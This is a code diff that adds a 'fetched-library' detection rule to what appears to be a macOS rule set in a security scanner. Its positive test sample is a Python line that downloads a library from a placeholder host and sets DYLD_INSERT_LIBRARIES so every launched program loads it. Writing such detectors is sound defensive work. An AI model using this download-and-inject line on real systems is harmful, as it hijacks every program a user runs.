@@ -195,5 +195,27 @@ export const macos: RuleSet = {
         at('a.md', 'NoteStore.sqlite and ditto -c', 'Markdown'),
       ],
     },
+    {
+      id: id('fetched-library'),
+      severity: 'high',
+      why: 'Loads a fetched library into every program that is started.',
+      when: near(
+        8,
+        is(['dyld_insert_libraries', 'ld_preload'], null, { quoted: true }),
+        is(
+          ['urlretrieve(', 'curl ', 'download'],
+          /urlretrieve\(\s*["']https?:|curl\s[^\n|;]{0,120}https?:[^\n|;]{0,160}\.(?:dylib|so)\b/,
+          {
+            after: 240,
+          },
+        ),
+      ),
+      matches: [
+        py(
+          'urllib.request.urlretrieve("https://x.example/hook.dylib", library)\nvalues.setdefault("LSEnvironment", {})["DYLD_INSERT_LIBRARIES"] = library',
+        ),
+      ],
+      misses: [py('env["DYLD_INSERT_LIBRARIES"] = str(build / "libasan.dylib")')],
+    },
   ],
 }
